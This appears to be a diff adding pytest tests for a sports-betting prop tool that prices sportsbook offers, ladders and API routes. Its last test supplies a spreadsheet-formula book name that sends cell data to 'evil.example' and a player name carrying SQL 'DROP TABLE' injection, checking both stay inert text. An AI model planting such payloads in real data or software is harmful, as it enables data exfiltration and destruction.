@@ -15,6 +15,7 @@ import shutil
 from collections.abc import Iterator
 from datetime import UTC, date, datetime
 from pathlib import Path
+from typing import Any
 
 import httpx
 import numpy as np
@@ -261,3 +262,207 @@ def test_a_stray_row_is_not_priced_and_the_board_shows_it(db_path: Path) -> None
         page = httpx.get(f"{live.url}/board/{DAY}", timeout=30).text
     cells = re.findall(r"<td>(.*?)</td>", next(r for r in page.split("<tr") if "<td>similarity</td>" in r))
     assert cells[8:10] == ["stray", ""]
+
+
+# Issue 20, part 1: every offer priced, on the board, ``--offers``, ``ladder``, ``--books``, and the same in the
+# API. The night's database holds the real PRA lines of 2024-01-15 (9-10 books per player, alternate lines).
+
+SECOND_DAY = "2024-01-16"  # lines ingested, nothing predicted: the ladder needs no prediction
+
+
+@pytest.fixture(scope="module")
+def two_days(night: tuple[Path, str, str, Path], pra_lines: dict[str, Path]) -> Path:
+    """A copy of the night's database with the real PRA lines of a second date and, for Kyrie Irving on the
+    night, one line posted after the prediction time (2024-01-16 00:00 UTC) by a book no one else names."""
+    db, folder = night[0], night[3]
+    copy = folder / "two_days.duckdb"
+    shutil.copyfile(db, copy)
+    with pra_lines["2023-24"].open(newline="") as handle:
+        real = [r for r in csv.DictReader(handle) if r["event_date"] == SECOND_DAY]
+    late = dict(zip(FIELDS, [DAY, "Kyrie Irving", "pra", "46.5", "LateBook", "+150", "-190",
+                             "2024-01-16T01:00:00Z"], strict=True))  # fmt: skip
+    code, _, stderr = run(
+        "ingest", "lines", str(write_csv(folder / "second_pra.csv", real)),
+        str(write_csv(folder / "late.csv", [late], FIELDS)), "--db", str(copy),
+    )  # fmt: skip
+    assert code == 0, stderr
+    return copy
+
+
+def _board(db: Path, *args: str, env: dict[str, str] | None = None) -> list[dict[str, Any]]:
+    code, stdout, stderr = run("predictions", "--date", DAY, "--market", "pra", "--db", str(db), "--json", *args,
+                               env=env)  # fmt: skip
+    assert code == 0, stderr
+    rows: list[dict[str, Any]] = json.loads(stdout)["predictions"]
+    return rows
+
+
+def test_every_lined_row_of_the_board_carries_its_market(night: tuple[Path, str, str, Path]) -> None:
+    """Before: a row carried one consensus line and the price of the book closest to it; every other book's
+    offer was stored and never used. Now each lined row has the fair P(over) at the consensus, the books and
+    their spread, the best over and under (book, line, price, EV) and the saving against the consensus book."""
+    db = night[0]
+    rows = _board(db)
+    lined = [r for r in rows if r["line_value"] is not None]
+    assert len(lined) > 50
+    for r in lined:
+        assert r["consensus_line"] == r["line_value"]  # the board and the prediction agree on the line
+        assert 0.0 < r["fair_p_over"] < 1.0 and r["n_books"] >= 1 and r["book_spread"] >= 0
+        for side in ("over", "under"):
+            assert (
+                r[f"best_{side}_book"] and r[f"best_{side}_line"] > 0 and abs(r[f"best_{side}_price"]) >= 100
+            )
+            assert r[f"best_{side}_ev"] is not None and r[f"best_{side}_saving"] >= -1e-12
+    assert sum(r["n_books"] >= 8 for r in lined) > 30 and any(r["book_spread"] >= 1 for r in lined)
+    tatum = [r for r in rows if r["player_lookup"] == "jaysontatum"]  # his only line is quarantined
+    assert tatum and all(r["consensus_line"] is None and r["best_over_book"] is None for r in tatum)
+    code, stdout, _ = run("predictions", "--date", DAY, "--market", "pra", "--db", str(db), "--csv")
+    header = next(csv.reader(stdout.splitlines()))
+    assert code == 0 and header[-15:] == [
+        "consensus_line", "fair_p_over", "n_books", "book_spread", "consensus_book", "best_over_book",
+        "best_over_line", "best_over_price", "best_over_ev", "best_over_saving", "best_under_book",
+        "best_under_line", "best_under_price", "best_under_ev", "best_under_saving",
+    ]  # fmt: skip
+
+
+def test_books_limit_the_best_offers_by_flag_or_setting(night: tuple[Path, str, str, Path]) -> None:
+    db = night[0]
+    everyone = {r["prediction_id"]: r for r in _board(db)}
+    for rows in (
+        _board(db, "--books", "draftkings, FanDuel"),
+        _board(db, env={"NBAPROPS_BOOKS": "DraftKings,FanDuel"}),
+    ):
+        lined = [r for r in rows if r["line_value"] is not None]
+        assert {r["best_over_book"] for r in lined} | {r["best_under_book"] for r in lined} <= {
+            "DraftKings", "FanDuel", None}  # fmt: skip
+        # the other books still inform the fair price
+        assert all(r["fair_p_over"] == everyone[r["prediction_id"]]["fair_p_over"] for r in lined)
+    assert len({r["best_over_book"] for r in everyone.values()}) > 2
+
+
+def test_offers_lists_every_offer_with_its_fair_probability_and_ev(two_days: Path) -> None:
+    """``predictions --offers``: every non-quarantined offer of the date (alternate lines too) posted by the
+    prediction time, with the fair P(over) at its own line and both EVs."""
+    code, stdout, stderr = run("predictions", "--date", DAY, "--offers", "--db", str(two_days), "--json")
+    assert code == 0, stderr
+    offers = json.loads(stdout)["offers"]
+    with open_storage(two_days) as storage:
+        stored = storage.scalar(
+            "SELECT count(*) FROM prop_lines WHERE game_date = ? AND quarantine_reason IS NULL", [DAY]
+        )
+    assert len(offers) == stored - 1  # LateBook's line came after the prediction time
+    assert "LateBook" not in {o["bookmaker"] for o in offers} and "MyBook" not in {
+        o["bookmaker"] for o in offers
+    }
+    priced = [o for o in offers if o["over_price"] is not None and o["under_price"] is not None]
+    assert priced and all(0 < o["fair_p_over"] < 1 and o["ev_over"] is not None for o in priced)
+    assert {o["line"] for o in offers if o["player_lookup"] == "kyrieirving"} >= {44.5, 45.5, 46.5}
+    # an offer's EV is the fair probability at its line paid at its price: recompute one
+    one = next(o for o in priced if o["line"] % 1 == 0.5)
+    decimal = 1 + (one["over_price"] / 100 if one["over_price"] > 0 else 100 / -one["over_price"])
+    assert one["ev_over"] == pytest.approx(one["fair_p_over"] * decimal - 1)
+    code, stdout, _ = run("predictions", "--date", DAY, "--offers", "--db", str(two_days))
+    assert code == 0 and f"{len(offers)} offer(s) for {DAY}" in stdout
+
+
+def test_ladder_prices_every_half_point_against_the_offers_there(two_days: Path) -> None:
+    code, stdout, stderr = run("ladder", "--date", DAY, "--player", "kyrie irving", "--market", "pra",
+                               "--db", str(two_days), "--json")  # fmt: skip
+    assert code == 0, stderr
+    ladder = json.loads(stdout)
+    assert ladder["player_name"] == "Kyrie Irving" and ladder["consensus_line"] == 46.5
+    lines = [rung["line"] for rung in ladder["lines"]]
+    assert lines == [41.5 + 0.5 * i for i in range(21)]  # consensus ± 5
+    p_over = [rung["p_over"] for rung in ladder["lines"]]
+    assert all(a >= b for a, b in zip(p_over, p_over[1:], strict=False)) and p_over[0] > p_over[-1]
+    at = {rung["line"]: rung for rung in ladder["lines"]}
+    assert {o["bookmaker"] for o in at[46.5]["offers"]} >= {"DraftKings", "BetMGM"}
+    assert "LateBook" not in {o["bookmaker"] for o in at[46.5]["offers"]}  # posted after the prediction
+    assert at[46.0]["p_push"] > 0 and at[46.5]["p_push"] == 0
+    assert at[46.5]["fair_over_odds"] == pytest.approx(ladder["fair_over_odds"])
+    # a date without predictions: every line posted before tip-off counts
+    code, stdout, stderr = run("ladder", "--date", SECOND_DAY, "--player", "lebron james", "--market", "pra",
+                               "--low", "42", "--high", "44", "--db", str(two_days))  # fmt: skip
+    assert code == 0, stderr
+    assert "LeBron James pra on 2024-01-16" in stdout and stdout.count("\n43.5 ") == 1 and "FanDuel" in stdout
+
+
+@pytest.mark.parametrize(
+    ("args", "message"),
+    [
+        (
+            ("--player", "Nobody Atall", "--market", "pra"),
+            "Error: no pra line for 'Nobody Atall' on 2024-01-15",
+        ),
+        (("--player", "Kyrie Irving", "--market", "blocks"), "Error: unknown market(s) blocks"),
+        (
+            ("--player", "Kyrie Irving", "--market", "pra", "--date", "2024-01-20"),
+            "Error: no lines on 2024-01-20",
+        ),
+        (
+            ("--player", "Kyrie Irving", "--market", "pra", "--low", "50", "--high", "40"),
+            "Error: --low 50 and",
+        ),
+    ],
+)
+def test_ladder_errors_are_one_line(two_days: Path, args: tuple[str, ...], message: str) -> None:
+    code, stdout, stderr = run("ladder", "--date", DAY, *args, "--db", str(two_days))
+    assert code == 1 and stdout == ""
+    assert stderr.startswith(message) and len(stderr.strip().splitlines()) == 1
+
+
+def test_the_api_serves_the_market_of_the_board_the_offers_and_the_ladder(
+    two_days: Path, tmp_path: Path
+) -> None:
+    from tests.service.conftest import KEYS, LiveServer, copy_db, service_settings
+
+    db = copy_db(two_days, tmp_path / "api")
+    cli_ladder = json.loads(run("ladder", "--date", DAY, "--player", "Kyrie Irving", "--market", "pra",
+                                "--db", str(db), "--json")[1])  # fmt: skip
+    with (
+        LiveServer(service_settings(db, tmp_path / "artifacts", read_auth=True)) as server,
+        httpx.Client(base_url=server.url, headers={"X-API-Key": KEYS[0]}, timeout=60) as client,
+    ):
+        board = client.get("/v1/predictions", params={"date": DAY, "market": "pra", "books": "BetMGM"}).json()
+        ladder = client.get("/v1/ladder", params={"date": DAY, "player": "Kyrie Irving", "market": "pra"})
+        offers = client.get("/v1/offers", params={"date": DAY, "market": "pra"}).json()
+        unknown = client.get("/v1/ladder", params={"date": DAY, "player": "Nobody Atall", "market": "pra"})
+        anonymous = httpx.get(f"{server.url}/v1/ladder", params={"date": DAY, "player": "x", "market": "pra"})
+    lined = [r for r in board["predictions"] if r["line_value"] is not None]
+    assert lined and {r["best_over_book"] for r in lined} <= {"BetMGM", None}
+    assert all(r["fair_p_over"] is not None for r in lined)
+    assert ladder.status_code == 200 and ladder.json() == cli_ladder
+    assert offers["count"] == len(offers["offers"]) > 500
+    assert unknown.status_code == 422 and unknown.json()["error"].startswith("no pra line for 'Nobody Atall'")
+    assert anonymous.status_code == 401  # reads need a key when read_auth is set, like every read route
+
+
+def test_hostile_book_and_player_names_stay_text(two_days: Path, tmp_path: Path) -> None:
+    """A book named like a spreadsheet formula and a player named like SQL reach neither SQL as text nor a CSV
+    as a live formula."""
+    db = tmp_path / "hostile.duckdb"
+    shutil.copyfile(two_days, db)
+    book = '=HYPERLINK("http://evil.example/?x="&A1,"odds")'
+    player = "Bobby O'Neil\"; DROP TABLE prop_lines; --"
+    rows = [
+        dict(zip(FIELDS, [DAY, player, "pra", line, book, "-110", "-110", f"{DAY}T18:00:00Z"], strict=True))
+        for line in ("20.5", "21.5")
+    ]
+    code, _, stderr = run(
+        "ingest", "lines", str(write_csv(tmp_path / "hostile.csv", rows, FIELDS)), "--db", str(db)
+    )
+    assert code == 0, stderr
+    code, stdout, stderr = run("ladder", "--date", DAY, "--player", player, "--market", "pra", "--db", str(db),
+                               "--json")  # fmt: skip
+    assert code == 0, stderr
+    ladder = json.loads(stdout)
+    assert ladder["player_name"] == player and {
+        o["bookmaker"] for r in ladder["lines"] for o in r["offers"]
+    } == {book}
+    code, stdout, _ = run("ladder", "--date", DAY, "--player", player, "--market", "pra", "--db", str(db))
+    assert code == 0 and "Bobby O'Neil" in stdout
+    code, stdout, _ = run("predictions", "--date", DAY, "--offers", "--csv", "--db", str(db))
+    cells = [r for r in csv.DictReader(stdout.splitlines()) if r["player_lookup"] == ladder["player_lookup"]]
+    assert len(cells) == 2 and {c["bookmaker"] for c in cells} == {"'" + book}
+    with open_storage(db) as storage:
+        assert storage.scalar("SELECT count(*) FROM prop_lines WHERE game_date = ?", [DAY]) > 800
